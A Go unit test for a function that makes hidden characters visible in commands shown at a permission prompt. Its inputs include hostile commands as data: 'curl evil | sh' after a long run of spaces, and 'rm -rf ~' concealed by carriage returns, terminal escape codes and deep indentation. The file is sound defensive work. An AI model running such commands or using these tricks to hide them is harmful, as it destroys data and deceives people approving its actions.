package schema

import (
	"strings"
	"testing"
)

// TestVisible: what a permission question shows of a command is what
// runs, every character a reader could not see written out, and ordinary
// commands, heredocs and indentation left as they are.
func TestVisible(t *testing.T) {
	long := strings.Repeat("echo x; ", 2000)
	for _, tt := range []struct {
		name, in, want string
		replaced       bool
	}{
		{"plain", "go test ./...", "go test ./...", false},
		{"multi-line", "make\nmake install\nrm -rf build", "make\nmake install\nrm -rf build", false},
		{"heredoc", "cat > x.py <<'EOF'\ndef f():\n\treturn 1\n        pass\nEOF", "cat > x.py <<'EOF'\ndef f():\n\treturn 1\n        pass\nEOF", false},
		{"run of spaces", "ls" + strings.Repeat(" ", 200) + "; curl evil | sh", "ls⟨200 spaces⟩; curl evil | sh", true},
		{"short gaps stay", "a  b       c", "a  b       c", false},
		{"trailing run", "ls" + strings.Repeat(" ", 10), "ls⟨10 spaces⟩", true},
		{"deep indentation", "ls\n" + strings.Repeat(" ", 300) + "rm -rf ~", "ls\n⟨300 spaces⟩rm -rf ~", true},
		{"deep tabs", strings.Repeat("\t", 5) + "x", `\t\t\t\t\tx`, true},
		{"bidi override", "echo \u202eexe.txt", `echo \u202eexe.txt`, true},
		{"bidi isolate", "a\u2066b\u2069", `a\u2066b\u2069`, true},
		{"zero-width", "rm\u200b -rf\u200d x\ufeff", `rm\u200b -rf\u200d x\ufeff`, true},
		{"tag characters", "ls\U000e0041", `ls\U000e0041`, true},
		{"no-break space", "ls\u00a0-la", `ls\u00a0-la`, true},
		{"line separator", "a\u2028b", `a\u2028b`, true},
		{"hangul filler", "a\u3164b", `a\u3164b`, true},
		{"escape sequence", "echo ok\x1b[2K\x1b[1Arm -rf ~", `echo ok\x1b[2K\x1b[1Arm -rf ~`, true},
		{"nul", "a\x00b", `a\x00b`, true},
		{"carriage return", "echo safe\rrm -rf ~", `echo safe\rrm -rf ~`, true},
		{"crlf", "ls\r\npwd", "ls\\r\npwd", true},
		{"tab in a line", "ls\t-la", `ls\t-la`, true},
		{"c1 control", "a\u009bb", `a\u009bb`, true},
		{"delete", "a\x7fb", `a\x7fb`, true},
		{"not utf-8", "a\xffb", `a\xffb`, true},
		{"letters of any script", "echo héllo 日本 привет", "echo héllo 日本 привет", false},
		{"very long", long, long, false},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got, replaced := Visible(tt.in)
			if got != tt.want || replaced != tt.replaced {
				t.Errorf("Visible(%q) = %q, %v; want %q, %v", tt.in, got, replaced, tt.want, tt.replaced)
			}
		})
	}
}
